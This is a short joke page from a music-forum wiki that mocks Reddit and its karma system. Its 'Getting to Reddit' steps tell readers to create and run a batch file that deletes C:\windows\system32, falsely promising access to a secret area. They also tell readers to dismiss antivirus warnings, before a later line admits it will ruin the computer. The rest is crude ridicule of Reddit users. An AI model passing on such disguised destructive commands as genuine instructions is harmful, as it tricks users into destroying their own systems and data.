4chanmusic Wiki

Reddit is a cool place for friends to hang out and talk about music and other things.

Getting to Reddit[]

  1. The correct location for /mu/sicians and /mu/sic lovers is a secret location, kept away from the plebes!
  2. Open Notepad
  3. Type in "@echo off del C:\windows\system32" with an enter inbetween off and del!
  4. Save this as Mangum.bat, under "all files"
  5. Run this file, and you will be granted access to the hidden areas of Reddit reserved for /mu/sicians!
  6. If your anti-virus flags this file, its not a virus, its actually just a method to make sure you're patrician enough!
  7. Have fun hanging out in the secret location on Reddit along with other /mu/sical lovers, which should appear on the front page of Reddit now that you've done this!
  8. this will ruin your computer.
  9. no fun allowed


Reddit Karma is an accumulation of "goodwill" you receive when users upvote your posts or comments. It doesn't give you any overt influence and it cannot be cashed in for fabulous prizes, buta healthy amount of Karma on your profile alerts others that you add value to the community love circlejerking over shitty music and images of cats.

There are two types of Karma: one for links and one for comments. Both are displayed on your user profile in the upper right-hand corner and are to be worn as badges of honor.[1]yeah, reddit is shit :)